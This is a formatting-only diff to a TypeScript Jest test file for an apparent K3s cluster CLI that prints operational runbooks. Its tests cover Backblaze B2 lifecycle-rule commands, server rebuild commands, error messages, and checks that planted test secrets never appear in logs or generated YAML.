   const b2 = JSON.parse(fs.readFileSync(path.join(__dirname, 'fixtures', 'b2', 'b2-cli.json'), 'utf8'));
 
   test('names the lifecycle rule that makes K3s’s prune delete on B2, and how to check it', () => {
-    const update = commandsOf(rb).find(({ command }) => command.argv.slice(0, 3).join(' ') === b2.bucketUpdate.command.join(' '))!;
+    const update = commandsOf(rb).find(
+      ({ command }) => command.argv.slice(0, 3).join(' ') === b2.bucketUpdate.command.join(' '),
+    )!;
     expect(update).toBeDefined();
-    const option = update.command.argv.find((w) => typeof w === 'string' && w.startsWith(`${b2.bucketUpdate.lifecycleRuleOption}=`)) as string;
-    expect(JSON.parse(option.slice(option.indexOf('=') + 1))).toEqual({ ...b2.lifecycleRule.keepOnlyTheLastVersion, fileNamePrefix: `${snapshots.settings['etcd-s3-folder']}/` });
+    const option = update.command.argv.find(
+      (w) => typeof w === 'string' && w.startsWith(`${b2.bucketUpdate.lifecycleRuleOption}=`),
+    ) as string;
+    expect(JSON.parse(option.slice(option.indexOf('=') + 1))).toEqual({
+      ...b2.lifecycleRule.keepOnlyTheLastVersion,
+      fileNamePrefix: `${snapshots.settings['etcd-s3-folder']}/`,
+    });
     expect(update.command.argv.slice(-2)).toEqual([snapshots.settings['etcd-s3-bucket'], 'allPrivate']);
     const step = rb.steps[update.step - 1]!;
-    expect(step.commands.map((c) => c.argv.join(' '))).toContain(`${b2.bucketGet.command.join(' ')} ${snapshots.settings['etcd-s3-bucket']}`);
+    expect(step.commands.map((c) => c.argv.join(' '))).toContain(
+      `${b2.bucketGet.command.join(' ')} ${snapshots.settings['etcd-s3-bucket']}`,
+    );
     expect(step.check).toContain('Keep only the last version');
     expect(step.check).toContain('daysFromHidingToDeleting');
     // Before the first snapshot is taken by hand.
@@ -472,7 +665,13 @@ describe('the etcd-secret runbook', () => {
   });
 
   test('the printed rule is one shell word that bash hands to b2 unchanged', () => {
-    const argv = JSON.parse(mustRun(['bash', '-c', `node -e 'console.log(JSON.stringify(process.argv.slice(1)))' -- ${commandLines(lifecycleCommand(snapshots))[0]!.replace(/ {2}# .*$/, '')}`]).stdout);
+    const argv = JSON.parse(
+      mustRun([
+        'bash',
+        '-c',
+        `node -e 'console.log(JSON.stringify(process.argv.slice(1)))' -- ${commandLines(lifecycleCommand(snapshots))[0]!.replace(/ {2}# .*$/, '')}`,
+      ]).stdout,
+    );
     expect(argv).toEqual(lifecycleCommand(snapshots).argv);
   });
 });
@@ -486,11 +685,17 @@ describe('the CLI', () => {
     const logged: string[] = [];
     const log = (l: string) => logged.push(l);
     expect(main([], env, log)).toBe(0);
-    for (const argv of [['--runbook', 'etcd-secret'], ['--runbook', 'restore'], ['--runbook', 'rebuild', '--node', 'hetzner2']]) expect(main(argv, env, log)).toBe(0);
+    for (const argv of [
+      ['--runbook', 'etcd-secret'],
+      ['--runbook', 'restore'],
+      ['--runbook', 'rebuild', '--node', 'hetzner2'],
+    ])
+      expect(main(argv, env, log)).toBe(0);
     const all = logged.join('\n');
     for (const secret of [...Object.values(PLANTED), TEST_TOKEN]) expect(all).not.toContain(secret);
     for (const f of fs.readdirSync(out).filter((x) => x.endsWith('.yaml'))) {
-      for (const secret of [...Object.values(PLANTED), TEST_TOKEN]) expect(fs.readFileSync(path.join(out, f), 'utf8')).not.toContain(secret);
+      for (const secret of [...Object.values(PLANTED), TEST_TOKEN])
+        expect(fs.readFileSync(path.join(out, f), 'utf8')).not.toContain(secret);
     }
     // The summary points at the Secret's runbook, once.
     expect(logged.filter((l) => l.includes('--runbook etcd-secret'))).toHaveLength(1);
@@ -499,7 +704,13 @@ describe('the CLI', () => {
   test('the rebuild runbook names the node file where synth writes it (CDK8S_OUTDIR)', () => {
     const out = tempDir('day-two-outdir');
     const logged: string[] = [];
-    expect(main(['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()], { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out }, (l) => void logged.push(l))).toBe(0);
+    expect(
+      main(
+        ['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()],
+        { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out },
+        (l) => void logged.push(l),
+      ),
+    ).toBe(0);
     const create = logged.find((l) => l.startsWith('hcloud server create'))!;
     expect(create).toContain(`--user-data-from-file ${path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data')}`);
   });
@@ -515,11 +726,15 @@ describe('the CLI', () => {
     const spy = jest.spyOn(console, 'error').mockImplementation((m: string) => void errors.push(m));
     try {
       expect(await run(['--runbook', 'upgrade'], { K3S_TOKEN: TEST_TOKEN })).toBe(2);
-      expect(await run(['--runbook', 'rebuild', '--node', 'nope', '--config', configFile()], { K3S_TOKEN: TEST_TOKEN })).toBe(1);
+      expect(
+        await run(['--runbook', 'rebuild', '--node', 'nope', '--config', configFile()], { K3S_TOKEN: TEST_TOKEN }),
+      ).toBe(1);
     } finally {
       spy.mockRestore();
     }
-    expect(errors[0]!.split('\n')[0]).toBe('error: --runbook upgrade: unknown runbook; use one of etcd-secret, restore, rebuild, adopt-snapshots, rollout');
+    expect(errors[0]!.split('\n')[0]).toBe(
+      'error: --runbook upgrade: unknown runbook; use one of etcd-secret, restore, rebuild, adopt-snapshots, rollout',
+    );
     expect(errors[1]).toMatch(/^error: --node nope: no such node/);
   });
 });
@@ -534,5 +749,7 @@ test.each([
 
 test('the production config round-trips: cluster.yaml has etcd snapshots on, to B2', () => {
   expect(productionRaw().etcdSnapshots).toMatchObject({ endpoint: expect.stringMatching(/\.backblazeb2\.com$/) });
-  expect(parse(fs.readFileSync(path.join(__dirname, '..', 'cluster.yaml'), 'utf8')).etcdSnapshots.secretName).toBe(snapshots.secretName);
+  expect(parse(fs.readFileSync(path.join(__dirname, '..', 'cluster.yaml'), 'utf8')).etcdSnapshots.secretName).toBe(
+    snapshots.secretName,
+  );
 });
